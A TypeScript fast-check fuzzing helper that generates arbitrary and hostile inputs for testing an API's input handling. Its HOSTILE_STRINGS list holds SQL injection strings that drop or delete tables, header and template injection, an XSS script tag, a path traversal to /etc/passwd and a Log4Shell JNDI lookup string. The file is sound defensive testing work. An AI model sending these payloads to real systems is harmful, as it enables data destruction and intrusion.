import fc from 'fast-check';

/** Inputs attackers reach for first: SQL, templates, headers, markup, paths, NUL, and the odd long one. */
export const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  'Robert"); DELETE FROM notifications; --',
  '\\',
  '%',
  '_',
  '\u0000',
  'a\u0000b',
  '\r\nX-Injected: yes',
  '{{constructor.constructor "return process"}}',
  '{{#with __proto__}}{{/with}}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://example.com/a}',
  '\ud800',
  '🦄'.repeat(50),
  'x'.repeat(3000),
] as const;

/** Any string: printable, full Unicode (lone surrogates too), or hostile. */
export const anyString = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
);

/** A JSON value of any shape, with hostile strings among its leaves and keys. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
  { weight: 1, arbitrary: fc.dictionary(anyString, anyString, { maxKeys: 4 }) },
  { weight: 1, arbitrary: anyString },
);

/** A value of any JSON type, for fields that expect one type. */
export const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  anyString,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.jsonValue({ maxDepth: 1 }),
);

/** Mostly a plausible value, sometimes anything; sometimes the field is left out by the record. */
export function mostly<T>(valid: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 3, arbitrary: valid }, { weight: 1, arbitrary: anyValue });
}

/** A plausible object with some fields left out, plus the odd unknown field. */
export function looseRecord(
  fields: Record<string, fc.Arbitrary<unknown>>,
): fc.Arbitrary<Record<string, unknown>> {
  return fc
    .tuple(
      fc.record(fields, { requiredKeys: [] }),
      fc.option(fc.dictionary(anyString, anyValue, { maxKeys: 2 }), { freq: 5 }),
    )
    .map(([known, extra]) => ({ ...(extra ?? {}), ...known }));
}

/** A JSON object body, or sometimes any JSON value at all (arrays, primitives). */
export function bodyOf(record: fc.Arbitrary<Record<string, unknown>>): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 8, arbitrary: record }, { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) });
}

/** Header values fetch can send: printable ASCII, the correlation id included. */
export const headerValue = fc.string({ unit: 'grapheme-ascii', maxLength: 200 });

/** A URL path segment from any string (lone surrogates become U+FFFD, which encodeURIComponent refuses). */
export const pathSegment = (value: string): string =>
  encodeURIComponent(Buffer.from(value, 'utf8').toString('utf8'));
